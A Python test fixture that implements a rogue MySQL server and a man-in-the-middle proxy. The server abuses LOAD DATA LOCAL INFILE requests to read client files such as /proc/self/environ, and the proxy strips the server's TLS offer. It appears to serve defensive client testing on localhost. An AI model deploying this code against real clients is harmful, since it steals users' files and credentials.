"""A rogue MySQL server for the end-to-end tests: just enough of the client/server protocol to let a client
connect (handshake v10, any user and password accepted, no TLS offered) and then answer its statements with a
LOAD DATA LOCAL file request of the server's choosing, the way a malicious or spoofed server would steal a
client's files (https://dev.mysql.com/doc/dev/mysql-server/latest/page_protocol_com_query_response_local_infile_request.html).

    server = RogueMySql(file_name="/proc/self/environ", request_on="every")
    ... point a client at 127.0.0.1:server.port ...
    server.received   # the bytes every client sent in reply to a file request, one entry per request
    server.close()

request_on: "every" asks for the file in reply to every statement (even a SET); "load" answers a statement
that starts with LOAD DATA with the request (file_name None: the name the statement itself gave), a SELECT or
SHOW with an empty result set and any other statement with OK, as an empty database would.

MitmProxy sits between a client and a real server instead, as an attacker on the network would: it relays
every packet, hides the server's TLS offer (so a client that accepts clear text gets it), and answers the
client's LOAD DATA LOCAL statements itself with a request for file_name."""

import re
import socket
import socketserver
import struct
import threading

# Capability flags (include/mysql_com.h). CLIENT_LONG_PASSWORD tells MariaDB's connector this is a MySQL
# server (no MariaDB extended capabilities in the filler). No CLIENT_SSL: the server offers no TLS.
CLIENT_LONG_PASSWORD = 1
CLIENT_LONG_FLAG = 4
CLIENT_CONNECT_WITH_DB = 8
CLIENT_LOCAL_FILES = 0x80
CLIENT_PROTOCOL_41 = 0x200
CLIENT_TRANSACTIONS = 0x2000
CLIENT_SECURE_CONNECTION = 0x8000
CLIENT_MULTI_RESULTS = 0x20000
CLIENT_PLUGIN_AUTH = 0x80000
CAPABILITIES = (CLIENT_LONG_PASSWORD | CLIENT_LONG_FLAG | CLIENT_CONNECT_WITH_DB | CLIENT_LOCAL_FILES |
                CLIENT_PROTOCOL_41 | CLIENT_TRANSACTIONS | CLIENT_SECURE_CONNECTION | CLIENT_MULTI_RESULTS |
                CLIENT_PLUGIN_AUTH)
STATUS_AUTOCOMMIT = 2
CLIENT_SSL = 0x800
COM_QUIT, COM_INIT_DB, COM_QUERY, COM_PING = 0x01, 0x02, 0x03, 0x0e
LOAD_LOCAL = re.compile(r"\s*LOAD\s+DATA\s+LOCAL\s+INFILE\s+'([^']*)'", re.I)
UTF8MB4_GENERAL_CI = 45


def lenenc_str(b):
    assert len(b) < 251
    return bytes([len(b)]) + b


class Connection:
    """One client's packets: 3-byte length, sequence number, payload."""

    def __init__(self, sock):
        self.sock = sock
        self.seq = 0

    def read_exact(self, n):
        out = b""
        while len(out) < n:
            chunk = self.sock.recv(n - len(out))
            if not chunk:
                raise EOFError("client closed the connection")
            out += chunk
        return out

    def read(self):
        header = self.read_exact(4)
        length = header[0] | header[1] << 8 | header[2] << 16
        self.seq = (header[3] + 1) % 256
        return self.read_exact(length)

    def write(self, payload):
        self.sock.sendall(struct.pack("<I", len(payload))[:3] + bytes([self.seq]) + payload)
        self.seq = (self.seq + 1) % 256

    def ok(self):
        self.write(b"\x00\x00\x00" + struct.pack("<HH", STATUS_AUTOCOMMIT, 0))

    def eof(self):
        self.write(b"\xfe" + struct.pack("<HH", 0, STATUS_AUTOCOMMIT))

    def empty_result(self):
        self.write(b"\x01")
        column = (lenenc_str(b"def") + lenenc_str(b"") + lenenc_str(b"") + lenenc_str(b"") + lenenc_str(b"x") +
                  lenenc_str(b"") + b"\x0c" + struct.pack("<HIBHB", UTF8MB4_GENERAL_CI, 255, 0xfd, 0, 0) + b"\x00\x00")
        self.write(column)
        self.eof()
        self.eof()


class LoopbackServer:
    """A threaded TCP server on 127.0.0.1 (a free port) that records what clients sent back for each file
    request, under a lock."""

    def listen(self, handler):
        socketserver.ThreadingTCPServer.allow_reuse_address = True
        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()

    def all_received(self):
        with self.lock:
            return b"".join(self.received)


class RogueMySql(LoopbackServer):
    def __init__(self, file_name, request_on="every"):
        self.file_name = file_name
        self.request_on = request_on
        self.received = []      # bytes sent back for each file request
        self.statements = []    # every COM_QUERY's text
        self.lock = threading.Lock()
        rogue = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                try:
                    rogue.serve(Connection(self.request))
                except (EOFError, ConnectionError, OSError):
                    pass

        self.listen(Handler)

    # --- the protocol ----------------------------------------------------------------------------------
    def serve(self, conn):
        scramble = b"abcdefgh" + b"ijklmnopqrst"
        handshake = (b"\x0a" + b"5.7.44-rogue\x00" + struct.pack("<I", 7) + scramble[:8] + b"\x00" +
                     struct.pack("<H", CAPABILITIES & 0xffff) + bytes([UTF8MB4_GENERAL_CI]) +
                     struct.pack("<H", STATUS_AUTOCOMMIT) + struct.pack("<H", CAPABILITIES >> 16) +
                     bytes([len(scramble) + 1]) + b"\x00" * 10 + scramble[8:] + b"\x00" +
                     b"mysql_native_password\x00")
        conn.write(handshake)
        conn.read()  # the handshake response: any user, any password
        conn.ok()
        while True:
            packet = conn.read()
            command, body = packet[0], packet[1:]
            if command == COM_QUIT:
                return
            if command != COM_QUERY:
                conn.ok()
                continue
            sql = body.decode("utf-8", "replace")
            with self.lock:
                self.statements.append(sql)
            load = LOAD_LOCAL.match(sql)
            if self.request_on == "every" or load:
                name = self.file_name if self.file_name is not None else load.group(1)
                self.request_file(conn, name.encode("utf-8"))
            elif re.match(r"\s*(SELECT|SHOW)\b", sql, re.I):
                conn.empty_result()
            else:
                conn.ok()

    def request_file(self, conn, name):
        with self.lock:
            self.received.append(request_file(conn, name))


def request_file(conn, name):
    """Sends the LOCAL INFILE request, reads the client's packets up to the empty one, answers OK; returns
    what the client sent."""
    conn.write(b"\xfb" + name)
    data = b""
    while True:
        packet = conn.read()
        if not packet:
            break
        data += packet
    conn.ok()
    return data


class MitmProxy(LoopbackServer):
    def __init__(self, upstream_port, file_name):
        self.upstream_port = upstream_port
        self.file_name = file_name
        self.received = []      # bytes sent back for each file request
        self.intercepted = []   # the LOAD DATA statements answered by the proxy
        self.lock = threading.Lock()
        proxy = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                upstream = socket.create_connection(("127.0.0.1", proxy.upstream_port))
                try:
                    proxy.relay(Connection(self.request), Connection(upstream))
                except (EOFError, ConnectionError, OSError):
                    pass
                finally:
                    upstream.close()

        self.listen(Handler)

    def relay(self, client, server):
        """Relays packets with their sequence numbers. One thread reads the server and writes the client, the
        other the reverse, each through Connection objects of its own."""
        # The handshake without CLIENT_SSL in the capabilities' lower half (after the version's NUL, the
        # connection id and the scramble's first 8 bytes and filler).
        handshake = bytearray(server.read())
        caps = handshake.index(0, 1) + 1 + 4 + 8 + 1
        handshake[caps] &= ~CLIENT_SSL & 0xff
        handshake[caps + 1] &= (~CLIENT_SSL >> 8) & 0xff
        client.seq = 0
        client.write(bytes(handshake))
        to_client, to_server = Connection(client.sock), Connection(server.sock)

        def downstream():
            try:
                while True:
                    packet = server.read()
                    to_client.seq = (server.seq - 1) % 256
                    to_client.write(packet)
            except (EOFError, ConnectionError, OSError):
                client.sock.close()

        threading.Thread(target=downstream, daemon=True).start()
        while True:
            packet = client.read()
            command_start = client.seq == 1
            sql = packet[1:].decode("utf-8", "replace")
            if command_start and packet[:1] == bytes([COM_QUERY]) and LOAD_LOCAL.match(sql):
                with self.lock:
                    self.intercepted.append(sql)
                data = request_file(client, self.file_name.encode("utf-8"))
                with self.lock:
                    self.received.append(data)
                continue
            to_server.seq = (client.seq - 1) % 256
            to_server.write(packet)
